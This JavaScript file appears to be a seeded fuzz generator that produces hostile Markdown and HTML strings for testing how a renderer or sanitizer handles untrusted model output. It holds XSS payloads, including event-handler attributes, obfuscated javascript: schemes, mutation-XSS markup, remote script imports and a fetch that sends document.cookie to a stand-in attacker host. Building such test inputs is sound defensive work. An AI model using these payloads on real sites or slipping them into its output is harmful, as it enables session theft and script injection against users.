// Outputs that a hostile document could make a model write. The same seed gives the same outputs.

function random(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

const scripts = ["window.pwned=1", "alert(1)", "fetch('https://evil.example/?q='+document.cookie)", "import('https://evil.example/x.js')", "eval('window.pwned=1')"];
const hosts = ["https://evil.example", "http://evil.example:8080", "//evil.example", "https://evil.example@localhost", "https://xn--r8jz45g.example", "\\\\evil.example", "https:evil.example"];
const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "javascript&colon;", "%6Aavascript:", "vbscript:", "data:text/html,", "data:image/svg+xml;base64,", "blob:", "file:///", "about:blank#", "\u0001javascript:", "jav&#x0A;ascript:", "feed:javascript:", "view-source:"];
const handlers = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "onbegin", "ontoggle", "onpointerenter", "onwheel"];
const tags = ["img", "script", "iframe", "object", "embed", "video", "audio", "source", "link", "style", "meta", "base", "form", "input", "button", "svg", "math", "template", "noscript", "details", "marquee", "dialog", "portal", "frameset", "body", "textarea", "select", "slot", "xmp", "plaintext", "foreignObject", "use", "animate", "set"];
const japanese = ["一時預かりの利用料は、", "**「重要」**です。", "\n\n## 見出し\n", "（第7条）", "。", "- 項目\n", "１２３円", "｜役場《やくば》", "\u202eしぶんへ\u202c", "\u200b", "\ue000", "𠮷野家", "🙂"];

/** Gives `{ kind, text }` for ever. */
export function hostile(seed) {
  const next = random(seed);
  const below = (count) => Math.floor(next() * count);
  const pick = (list) => list[below(list.length)];
  const script = () => pick(scripts);
  const address = () => (next() < 0.6 ? `${pick(schemes)}${script()}` : `${pick(hosts)}/${pick(["", "a?q=himitsu", "%00", "x.png", "a b", "#x", "\u202egnp.exe"])}`);
  const attribute = () => `${pick(handlers)}=${pick(['"', "'", "", "`"])}${script()}${pick(['"', "'", "", "`"])}`;
  const noise = () => Array.from({ length: below(40) }, () => String.fromCodePoint(pick([below(0x20), 0x20 + below(0x60), 0x3000 + below(0x100), 0x4e00 + below(0x100), 0xd7ff - below(20), 0xfff0 + below(13), 0x1f600 + below(40)]))).join("");

  const kinds = {
    element: () => `<${pick(tags)} ${attribute()} src=${address()} href="${address()}" style="background:url(${pick(hosts)}/s)">${pick(["", script(), "</script>", "<p>"])}</${pick(tags)}>`,
    script: () => pick([`<script>${script()}</script>`, `<scr<script>ipt>${script()}</script>`, `<script src=${pick(hosts)}/x.js>`, `<SCRIPT\n>${script()}</SCRIPT\n>`, `<!--><script>${script()}</script>-->`, `<script>\n\n${script()}\n\n</script>`]),
    mutation: () => pick([`<svg><style><img src=x ${attribute()}></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ${attribute()}&gt;">`, `<noscript><p title="</noscript><img src=x ${attribute()}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src ${attribute()}>`, `<svg></p><style><a id="</style><img src=1 ${attribute()}>">`, `<select><iframe></select><img src=1 ${attribute()}>`]),
    link: () => `[${pick(["案内", "**太い**", "![x](y)", "`c`", "]"])}](${address()}${pick(["", ' "題名"', ` "${pick(["\"", "'"])}${attribute()}"`])})`,
    angle: () => `<${address()}> [x](<${address()}>) ${address()} <a@evil.example>`,
    image: () => `![${pick(["図", "x](y", "<b>"])}](${address()}) ![r][r]\n\n[r]: ${address()}`,
    reference: () => `[a][b] [b] [b][]\n\n[b]: ${address()} "${attribute()}"\n[b]: <${address()}>\n`,
    code: () => `${pick(["```", "~~~", "````"])}${pick(["html", '" onclick="x', "js <img src=x>", ""])}\n<script>${script()}</script>\n${pick(["```", "", "~~~"])}\n\`<img src=x ${attribute()}>\``,
    table: () => `| ${attribute()} | <img src=${address()}> |\n| --- | ---: |\n| [x](${address()}) | =HYPERLINK("${pick(hosts)}") |\n| ${"|".repeat(below(30))}\n`,
    list: () => `${"> ".repeat(below(30))}${"- ".repeat(below(30))}${"1. ".repeat(below(10))}<img src=x ${attribute()}>`,
    emphasis: () => `${"*".repeat(below(60))}${"_".repeat(below(60))}<b ${attribute()}>${"~".repeat(below(20))}${"[".repeat(below(60))}${"](".repeat(below(30))}`,
    entity: () => `&lt;img src=x ${attribute()}&gt; &#60;script&#62;${script()}&#60;/script&#62; &amp;lt;svg/onload=1&amp;gt; &#0; &#xD800; &#x110000;`,
    ruby: () => `｜<img src=x ${attribute()}>《<script>${script()}</script>》 <ruby>${address()}<rt>${attribute()}</rt></ruby> 漢《かな》<ruby ${attribute()}>漢<rt>か</rt></ruby>`,
    style: () => `<style>*{background:url(${pick(hosts)}/?)}@import "${pick(hosts)}/x.css";@font-face{font-family:x;src:url(${pick(hosts)})}</style><p style="behavior:url(x)">`,
    redirect: () => `<meta http-equiv=refresh content="0;url=${address()}"><base href="${pick(hosts)}/"><link rel=${pick(["stylesheet", "preload", "prefetch", "dns-prefetch", "icon", "modulepreload"])} href=${pick(hosts)}>`,
    formula: () => `$$\\href{${address()}}{x}\\includegraphics{${pick(hosts)}/x}$$ \\(\\url{${address()}}\\)`,
    placeholder: () => `[1] 【出典】[^1]\n\n[^1]: ![](${pick(hosts)})\n\n{{${script()}}} \${${script()}} <%= ${script()} %>`,
    noise: () => noise(),
  };
  const names = Object.keys(kinds);
  return () => {
    const kind = pick(names);
    let text = kinds[kind]();
    for (let more = below(4); more > 0; more--) {
      const other = pick([() => pick(japanese), () => kinds[pick(names)](), noise])();
      const at = below(text.length + 1);
      text = text.slice(0, at) + other + text.slice(at);
    }
    if (next() < 0.3) text = text.slice(0, below(text.length + 1)); // cut off anywhere, as a stream is
    return { kind, text };
  };
}
